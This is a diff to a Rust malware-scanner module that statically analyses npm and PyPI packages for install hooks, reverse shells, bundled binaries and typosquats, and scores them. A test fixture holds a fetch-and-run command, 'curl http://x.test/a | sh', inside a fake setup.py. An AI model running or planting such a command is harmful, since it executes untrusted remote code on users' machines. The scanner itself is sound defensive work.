@@ -10,13 +10,32 @@
 //! YARA rule folder in [`Analyzer::new`]) and must never execute, import or install
 //! anything it analyses: all decoding of payloads is static.
 
+use std::collections::{BTreeSet, HashMap, HashSet};
 use std::path::PathBuf;
+use std::sync::LazyLock;
 
-use malgraph_core::{Anomaly, PackageFile, ScanReport};
+use malgraph_core::{
+    Anomaly, AnomalyKind, Ecosystem, Finding, Iocs, Metadata, PackageFile, ScanReport, ScanStats,
+    Severity, Stage, Verdict,
+};
+use regex::Regex;
 
+mod decode;
+mod ext;
+mod js;
+mod meta;
+mod model;
+mod patterns;
+mod pylit;
+mod python;
 mod rules;
+#[cfg(feature = "yara")]
+mod yara;
 
-pub use rules::{RuleInfo, THRESHOLD_MALICIOUS, THRESHOLD_SUSPICIOUS, rule, rules};
+use model::{Facts, Raw, Scope, Sink};
+pub use rules::{
+    RuleInfo, THRESHOLD_MALICIOUS, THRESHOLD_SUSPICIOUS, rule, rules, severity_weight,
+};
 
 /// Settings of an [`Analyzer`].
 #[derive(Debug, Clone)]
@@ -75,20 +94,611 @@ pub enum AnalyzeError {
 /// A compiled analyser: build once, analyse many packages (it is `Send + Sync`).
 pub struct Analyzer {
     cfg: AnalyzerConfig,
+    #[cfg(feature = "yara")]
+    yara: Option<yara::YaraRules>,
 }
+
+/// Factor of code only reachable from tests, docs or examples.
+const TEST_FACTOR: f64 = 0.25;
+/// Factor of the top level of modules nobody is known to import.
+const MODULE_TOP_FACTOR: f64 = 0.8;
+/// Factor of function bodies not reachable from any top level.
+const RUNTIME_FACTOR: f64 = 0.6;
+
+static IMPORT_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import[ \t]+\(?([\w, \t]+)|import[ \t]+([\w., \t]+))")
+        .expect("static regex compiles")
+});
 
 impl Analyzer {
     /// Build an analyser, compiling the YARA rules of `cfg.yara_dir` if any.
     pub fn new(cfg: AnalyzerConfig) -> Result<Analyzer, AnalyzeError> {
-        Ok(Analyzer { cfg })
+        #[cfg(feature = "yara")]
+        {
+            let yara = match &cfg.yara_dir {
+                Some(d) => Some(yara::YaraRules::load(d)?),
+                None => None,
+            };
+            Ok(Analyzer { cfg, yara })
+        }
+        #[cfg(not(feature = "yara"))]
+        {
+            if cfg.yara_dir.is_some() {
+                return Err(AnalyzeError::YaraUnsupported);
+            }
+            Ok(Analyzer { cfg })
+        }
     }
 
     /// Analyse one package. Fills everything of the report except `path` and
     /// `sha256` (left `""` and `None` for the caller to set).
     pub fn analyze(&self, files: &[PackageFile], anomalies: &[Anomaly]) -> ScanReport {
-        let _ = (files, anomalies, &self.cfg);
-        let mut r = ScanReport::error("", None, "");
-        r.error = None;
-        r
+        let mut sink = Sink::default();
+        let ecosystem = guess_ecosystem(files);
+        let (setup_imports, init_imports) = local_imports(files);
+        let mut findings_extra: Vec<Raw> = Vec::new();
+        let mut flagged_binary: HashSet<&str> = HashSet::new();
+        let mut code_files = 0usize;
+        let mut install_js: Vec<String> = Vec::new();
+
+        // Declarative metadata first (npm install scripts decide JS stages).
+        for f in files {
+            let base = basename(&f.path);
+            let depth = f.path.matches('/').count();
+            let text = || String::from_utf8_lossy(&f.data);
+            match base {
+                "PKG-INFO" | "METADATA" if depth <= 2 => meta::pkg_info(&text(), &mut sink),
+                "setup.cfg" if depth <= 1 => meta::setup_cfg(&text(), &mut sink),
+                "pyproject.toml" if depth <= 1 => meta::pyproject(&text(), &mut sink),
+                "package.json" if depth <= 1 && ecosystem == Ecosystem::Npm => {
+                    for (hook, cmd) in meta::package_json(&text(), &mut sink) {
+                        let msg = format!("`{hook}` script: {}", model::snippet(&cmd));
+                        findings_extra.push(raw(
+                            "NPM-INSTALL-SCRIPT",
+                            &f.path,
+                            0,
+                            &cmd,
+                            msg,
+                            Some(Scope::INSTALL),
+                        ));
+                        for p in patterns::command_rules(&cmd) {
+                            let msg =
+                                format!("`{hook}` script {}: {}", p.what, model::snippet(&cmd));
+                            findings_extra.push(raw(
+                                p.rule,
+                                &f.path,
+                                0,
+                                &cmd,
+                                msg,
+                                Some(Scope::INSTALL),
+                            ));
+                        }
+                        for w in cmd.split_whitespace() {
+                            if w.ends_with(".js") || w.ends_with(".mjs") || w.ends_with(".cjs") {
+                                install_js.push(w.trim_start_matches("./").to_string());
+                            }
+                        }
+                    }
+                }
+                b if depth <= 1 && b.starts_with("requirements") && b.ends_with(".txt") => {
+                    meta::requirements(&text(), &mut sink)
+                }
+                _ => {}
+            }
+        }
+
+        let mut per_file_facts: Vec<(String, Facts)> = Vec::new();
+        for f in files {
+            let path = f.path.as_str();
+            let base = basename(path);
+            let lower = base.to_ascii_lowercase();
+            let stem = lower.rsplit_once('.').map_or(lower.as_str(), |x| x.0);
+            let imported_by_setup = setup_imports.contains(stem);
+            let imported_by_init = init_imports.contains(stem);
+            let mult = if is_test_path(path) && !imported_by_setup && !imported_by_init {
+                TEST_FACTOR
+            } else {
+                1.0
+            };
+            // Bundled binaries.
+            if let Some(rule) = binary_kind(&lower, &f.data) {
+                flagged_binary.insert(path);
+                let msg = format!("bundled binary ({} bytes)", f.data.len());
+                findings_extra.push(raw(rule, path, 0, "", msg, None));
+                continue;
+            }
+            if lower.ends_with(".py") || lower.ends_with(".pyw") {
+                code_files += 1;
+                let (role, top) = if base == "setup.py" && path.matches('/').count() <= 1 {
+                    (python::Role::Setup, Scope::INSTALL)
+                } else if base == "__init__.py" {
+                    if imported_by_setup {
+                        (python::Role::Init, Scope::INSTALL)
+                    } else {
+                        (python::Role::Init, Scope::IMPORT)
+                    }
+                } else if imported_by_setup {
+                    (python::Role::Module, Scope::INSTALL)
+                } else if imported_by_init {
+                    (python::Role::Module, Scope::IMPORT)
+                } else {
+                    (
+                        python::Role::Module,
+                        Scope {
+                            stage: Stage::Import,
+                            factor: MODULE_TOP_FACTOR,
+                        },
+                    )
+                };
+                let ctx = python::PyCtx {
+                    path,
+                    role,
+                    top: top.scaled(mult),
+                    func: Scope {
+                        stage: Stage::Runtime,
+                        factor: RUNTIME_FACTOR * mult,
+                    },
+                    layer: 0,
+                    forced: None,
+                    depth_left: self.cfg.max_decode_depth,
+                    max_parse: self.cfg.max_parse_bytes,
+                };
+                let mut facts = Facts::default();
+                python::analyze(&f.data, &ctx, &mut sink, &mut facts);
+                per_file_facts.push((path.to_string(), facts));
+            } else if lower.ends_with(".pth") {
+                code_files += 1;
+                let text = String::from_utf8_lossy(&f.data);
+                for (i, line) in text.lines().enumerate() {
+                    let t = line.trim_start();
+                    if t.starts_with("import ") || t.starts_with("import\t") {
+                        let msg =
+                            "executable line in a .pth file (runs at every interpreter start)"
+                                .to_string();
+                        findings_extra.push(raw(
+                            "PY-PTH-CODE",
+                            path,
+                            i as u32 + 1,
+                            t,
+                            msg,
+                            Some(Scope::IMPORT),
+                        ));
+                        let ctx = python::PyCtx {
+                            path,
+                            role: python::Role::Pth,
+                            top: Scope::IMPORT,
+                            func: Scope::IMPORT,
+                            layer: 0,
+                            forced: Some((Scope::IMPORT, i as u32 + 1)),
+                            depth_left: self.cfg.max_decode_depth,
+                            max_parse: self.cfg.max_parse_bytes,
+                        };
+                        let mut facts = Facts::default();
+                        python::analyze(t.as_bytes(), &ctx, &mut sink, &mut facts);
+                    }
+                }
+            } else if ecosystem == Ecosystem::Npm
+                && (lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs"))
+                && !path.contains("/node_modules/")
+            {
+                code_files += 1;
+                let rel = path.split_once('/').map_or(path, |x| x.1);
+                let scope = if install_js
+                    .iter()
+                    .any(|j| j == rel || path.ends_with(j.as_str()))
+                {
+                    Scope::INSTALL
+                } else {
+                    Scope {
+                        stage: Stage::Runtime,
+                        factor: RUNTIME_FACTOR,
+                    }
+                    .scaled(mult)
+                };
+                js::analyze(&f.data, path, scope, self.cfg.max_parse_bytes, &mut sink);
+            }
+        }
+
+        // Combinations within one file.
+        for (path, facts) in &per_file_facts {
+            if let (Some((line, scope, snip)), Some(_)) =
+                (&facts.download_to_file, &facts.run_program)
+            {
+                let msg = "downloads a file and runs a program".to_string();
+                findings_extra.push(raw(
+                    "PY-DL-WRITE-EXEC",
+                    path,
+                    *line,
+                    snip,
+                    msg,
+                    Some(*scope),
+                ));
+            }
+            if let Some((line, scope, snip)) = &facts.dup2
+                && facts.socket_connect
+            {
+                let msg = "socket descriptors duplicated onto a process: reverse shell".to_string();
+                findings_extra.push(raw(
+                    "PY-RC-REVERSE-SHELL",
+                    path,
+                    *line,
+                    snip,
+                    msg,
+                    Some(*scope),
+                ));
+            }
+        }
+
+        for a in anomalies {
+            if a.kind == AnomalyKind::BundledBinary {
+                if !flagged_binary.contains(a.path.as_str()) {
+                    let msg = format!("bundled binary: {}", a.detail);
+                    findings_extra.push(raw("PKG-BINARY-NATIVE", &a.path, 0, "", msg, None));
+                }
+                continue;
+            }
+            let msg = format!("{}: {}", a.kind, a.detail);
+            findings_extra.push(raw("PKG-ARCHIVE-ANOMALY", &a.path, 0, "", msg, None));
+        }
+
+        #[cfg(feature = "yara")]
+        let yara_findings = match &self.yara {
+            Some(y) => y.scan(files),
+            None => Vec::new(),
+        };
+        #[cfg(not(feature = "yara"))]
+        let yara_findings: Vec<Finding> = Vec::new();
+
+        // Name and typosquatting.
+        let name = sink
+            .name
+            .clone()
+            .map(|n| malgraph_core::normalise_name(&ecosystem, &n));
+        let typosquat = name
+            .as_deref()
+            .and_then(|n| malgraph_typosquat::typosquat_of(&ecosystem, n))
+            .map(str::to_string);
+        if let (Some(t), Some(n)) = (&typosquat, &name) {
+            let msg = format!("name `{n}` imitates popular `{t}`");
+            findings_extra.push(raw("META-TYPOSQUAT", "", 0, n, msg, None));
+        }
+
+        let mut raws = std::mem::take(&mut sink.findings);
+        raws.extend(findings_extra);
+
+        // Behaviour overlap: strong findings concentrated in a large code base.
+        let strong_files: BTreeSet<&str> = raws
+            .iter()
+            .filter(|r| rule(r.rule).is_some_and(|i| i.severity >= Severity::High))
+            .map(|r| r.file.as_str())
+            .collect();
+        if sink.code_lines >= 500
+            && code_files >= 5
+            && !strong_files.is_empty()
+            && strong_files.len() <= 2
+        {
+            let first = strong_files
+                .iter()
+                .next()
+                .map(|s| s.to_string())
+                .unwrap_or_default();
+            let msg = format!(
+                "strong findings in {} of {code_files} code files ({} lines)",
+                strong_files.len(),
+                sink.code_lines
+            );
+            raws.push(raw("META-BEHAVIOUR-OVERLAP", &first, 0, "", msg, None));
+        }
+
+        let mut findings = score_findings(raws);
+        let mut score: f64 = findings.iter().map(|(_, w)| *w).sum();
+        let mut findings: Vec<Finding> = findings.drain(..).map(|(f, _)| f).collect();
+        for f in yara_findings {
+            let w = severity_weight(f.severity);
+            score += w;
+            findings.push(f);
+        }
+        score = (score * 100.0).round() / 100.0;
+
+        let mut iocs = Iocs::default();
+        malgraph_ioc::extract_into(&sink.strings, &mut iocs);
+
+        let mut categories = BTreeSet::new();
+        let mut stages = BTreeSet::new();
+        let mut evasion = BTreeSet::new();
+        for f in &findings {
+            if f.severity >= Severity::Low {
+                categories.insert(f.category);
+                if let Some(s) = f.stage {
+                    stages.insert(s);
+                }
+            }
+            if let Some(e) = f.evasion {
+                evasion.insert(e);
+            }
+        }
+        let flagged_lines = findings
+            .iter()
+            .filter(|f| f.line > 0)
+            .map(|f| (f.file.as_str(), f.line))
+            .collect::<HashSet<_>>()
+            .len() as u64;
+        let verdict = if score >= self.cfg.threshold_malicious {
+            Verdict::Malicious
+        } else if score >= self.cfg.threshold_suspicious {
+            Verdict::Suspicious
+        } else {
+            Verdict::Benign
+        };
+        let version = sink.version.clone();
+        let metadata = Metadata {
+            name: sink.name.clone(),
+            version: sink.version.clone(),
+            author: sink.author.clone(),
+            author_email: sink.author_email.clone(),
+            summary: sink.summary.clone(),
+            homepage: sink.homepage.clone(),
+            dependencies: sink.dependencies.clone(),
+            imports: sink.imports.iter().cloned().collect(),
+            typosquat_of: typosquat,
+        };
+        ScanReport {
+            path: String::new(),
+            ecosystem: (!files.is_empty()).then_some(ecosystem),
+            name,
+            version,
+            sha256: None,
+            verdict,
+            score,
+            categories,
+            stages,
+            evasion,
+            findings,
+            iocs,
+            platforms: sink.platforms.clone(),
+            metadata,
+            stats: ScanStats {
+                files: files.len() as u64,
+                code_bytes: sink.code_bytes,
+                code_lines: sink.code_lines,
+                flagged_lines,
+            },
+            error: None,
+        }
+    }
+}
+
+fn raw(
+    rule: &'static str,
+    file: &str,
+    line: u32,
+    snip: &str,
+    message: String,
+    scope: Option<Scope>,
+) -> Raw {
+    Raw {
+        rule,
+        file: file.to_string(),
+        line,
+        snippet: model::snippet(snip),
+        layer: 0,
+        message,
+        stage: scope.map(|s| s.stage),
+        factor: scope.map_or(1.0, |s| s.factor),
+    }
+}
+
+/// Turn raw findings into findings with weights (see the scoring rules in [`rules()`]'s
+/// module docs): per rule, the heaviest counts fully, the second half, the rest nothing.
+fn score_findings(raws: Vec<Raw>) -> Vec<(Finding, f64)> {
+    let mut by_rule: HashMap<&'static str, Vec<usize>> = HashMap::new();
+    let weights: Vec<f64> = raws
+        .iter()
+        .map(|r| rule(r.rule).map_or(0.0, |i| severity_weight(i.severity)) * r.factor)
+        .collect();
+    for (i, r) in raws.iter().enumerate() {
+        by_rule.entry(r.rule).or_default().push(i);
+    }
+    let mut counted = vec![0.0; raws.len()];
+    for idx in by_rule.values_mut() {
+        idx.sort_by(|a, b| weights[*b].total_cmp(&weights[*a]).then(a.cmp(b)));
+        for (k, i) in idx.iter().enumerate() {
+            counted[*i] = match k {
+                0 => weights[*i],
+                1 => weights[*i] * 0.5,
+                _ => 0.0,
+            };
+        }
+    }
+    raws.into_iter()
+        .zip(counted)
+        .filter_map(|(r, w)| {
+            let info = rule(r.rule)?;
+            let w = (w * 100.0).round() / 100.0;
+            let message = format!("{} [+{}]", r.message, fmt_weight(w));
+            Some((
+                Finding {
+                    rule: r.rule.to_string(),
+                    category: info.category,
+                    severity: info.severity,
+                    stage: r.stage,
+                    evasion: info.evasion,
+                    file: r.file,
+                    line: r.line,
+                    snippet: r.snippet,
+                    layer: r.layer,
+                    message,
+                },
+                w,
+            ))
+        })
+        .collect()
+}
+
+fn fmt_weight(w: f64) -> String {
+    if w.fract() == 0.0 {
+        format!("{w:.0}")
+    } else {
+        format!("{w}")
+    }
+}
+
+fn basename(p: &str) -> &str {
+    p.rsplit(['/', '!']).next().unwrap_or(p)
+}
+
+fn is_test_path(p: &str) -> bool {
+    let l = p.to_ascii_lowercase();
+    let segs: Vec<&str> = l.split('/').collect();
+    let file = segs.last().copied().unwrap_or("");
+    segs[..segs.len().saturating_sub(1)].iter().any(|s| {
+        matches!(
+            *s,
+            "test"
+                | "tests"
+                | "testing"
+                | "doc"
+                | "docs"
+                | "example"
+                | "examples"
+                | "benchmarks"
+                | "bench"
+        )
+    }) || file.starts_with("test_")
+        || file.ends_with("_test.py")
+        || file == "conftest.py"
+        || file == "noxfile.py"
+}
+
+fn guess_ecosystem(files: &[PackageFile]) -> Ecosystem {
+    let mut py = false;
+    let mut npm = false;
+    for f in files {
+        let depth = f.path.matches('/').count();
+        let b = basename(&f.path);
+        if depth <= 1 && b == "package.json" {
+            npm = true;
+        }
+        if b.ends_with(".py") || b == "PKG-INFO" || b == "METADATA" || b == "setup.cfg" {
+            py = true;
+        }
+    }
+    if npm && !py {
+        Ecosystem::Npm
+    } else {
+        Ecosystem::PyPI
+    }
+}
+
+/// Local names imported by `setup.py` files and by `__init__.py` files.
+fn local_imports(files: &[PackageFile]) -> (HashSet<String>, HashSet<String>) {
+    let mut setup = HashSet::new();
+    let mut init = HashSet::new();
+    for f in files {
+        let b = basename(&f.path);
+        let target = match b {
+            "setup.py" if f.path.matches('/').count() <= 1 => &mut setup,
+            "__init__.py" => &mut init,
+            _ => continue,
+        };
+        let text = String::from_utf8_lossy(&f.data);
+        for c in IMPORT_RE.captures_iter(&text) {
+            for g in [1, 2, 3] {
+                if let Some(m) = c.get(g) {
+                    for part in m.as_str().split([',', ' ', '\t', '.', '(']) {
+                        let p = part.trim().to_ascii_lowercase();
+                        if !p.is_empty() && p != "as" && p != "import" {
+                            target.insert(p);
+                        }
+                    }
+                }
+            }
+        }
+    }
+    (setup, init)
+}
+
+/// Rule for a bundled binary, by extension or magic bytes.
+fn binary_kind(lower_name: &str, data: &[u8]) -> Option<&'static str> {
+    let ext = lower_name.rsplit_once('.').map_or("", |x| x.1);
+    if matches!(ext, "exe" | "dll" | "scr" | "sys")
+        || data.starts_with(b"MZ")
+            && data.len() > 64
+            && data.get(0x40..).is_some()
+            && pe_header(data)
+    {
+        return Some("PKG-BINARY-PE");
+    }
+    if matches!(ext, "so" | "pyd" | "dylib")
+        || data.starts_with(b"\x7fELF")
+        || data.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
+        || data.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
+    {
+        return Some("PKG-BINARY-NATIVE");
+    }
+    None
+}
+
+fn pe_header(data: &[u8]) -> bool {
+    let Some(off) = data.get(0x3c..0x40) else {
+        return false;
+    };
+    let off = u32::from_le_bytes([off[0], off[1], off[2], off[3]]) as usize;
+    data.get(off..off + 4) == Some(b"PE\0\0")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn pf(path: &str, data: &str) -> PackageFile {
+        PackageFile {
+            path: path.into(),
+            data: data.as_bytes().to_vec(),
+        }
+    }
+
+    #[test]
+    fn analyzer_is_send_sync() {
+        fn ok<T: Send + Sync>() {}
+        ok::<Analyzer>();
+    }
+
+    #[test]
+    fn score_is_the_sum_of_finding_weights() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let r = a.analyze(
+            &[pf(
+                "p-1/setup.py",
+                "import os, subprocess\nos.system('curl http://x.test/a | sh')\nsubprocess.call('ls')\nsubprocess.call('ls')\nsubprocess.call('ls')\n",
+            )],
+            &[],
+        );
+        let sum: f64 = r
+            .findings
+            .iter()
+            .map(|f| {
+                let w = f.message.rsplit("[+").next().unwrap().trim_end_matches(']');
+                w.parse::<f64>().unwrap()
+            })
+            .sum();
+        assert!((sum - r.score).abs() < 0.01, "{sum} vs {}", r.score);
+        assert_eq!(r.verdict, Verdict::Malicious);
+        assert!(r.stages.contains(&Stage::Install));
+    }
+
+    #[test]
+    fn empty_package_is_benign() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let r = a.analyze(&[], &[]);
+        assert_eq!(r.verdict, Verdict::Benign);
+        assert_eq!(r.error, None);
+    }
+
+    #[test]
+    fn test_paths() {
+        assert!(is_test_path("p/tests/x.py"));
+        assert!(is_test_path("p/test_x.py"));
+        assert!(!is_test_path("p/pkg/x.py"));
     }
 }
